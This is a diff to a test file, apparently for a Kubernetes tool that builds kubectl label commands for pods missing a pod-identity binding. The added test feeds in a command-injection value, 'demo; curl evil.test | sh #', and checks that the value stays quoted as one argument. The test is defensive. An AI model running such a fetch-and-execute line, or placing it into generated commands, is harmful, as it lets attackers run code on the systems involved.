@@ -24,6 +24,14 @@ it('a missing label gets the only selector of the namespace', () => {
   expect(commandFor()).toBe(label('SELECTOR'));
 });
 
+it('attack: a selector that an editor wrote is one word of the command, and nothing that a shell interprets', () => {
+  const selector = 'demo; curl evil.test | sh #';
+  for (const unbound of [{ why: 'no-label' }, { why: 'no-binding', label: `${selector}#` }] as const)
+    expect(unboundFinding(pod, unbound, { selectors: [selector] }).remedy?.command).toBe(
+      `kubectl label pod web-0 --namespace shop --overwrite 'aadpodidbinding=${selector}'`,
+    );
+});
+
 it('what is in another namespace can be pasted into that of the pod', () => {
   const unbound = { why: 'other-namespace', binding: 'pay/by', identity: 'pay/of' } as const;
   const { remedy } = unboundFinding(pod, unbound, { copies: [{ kind: 'A' }] });
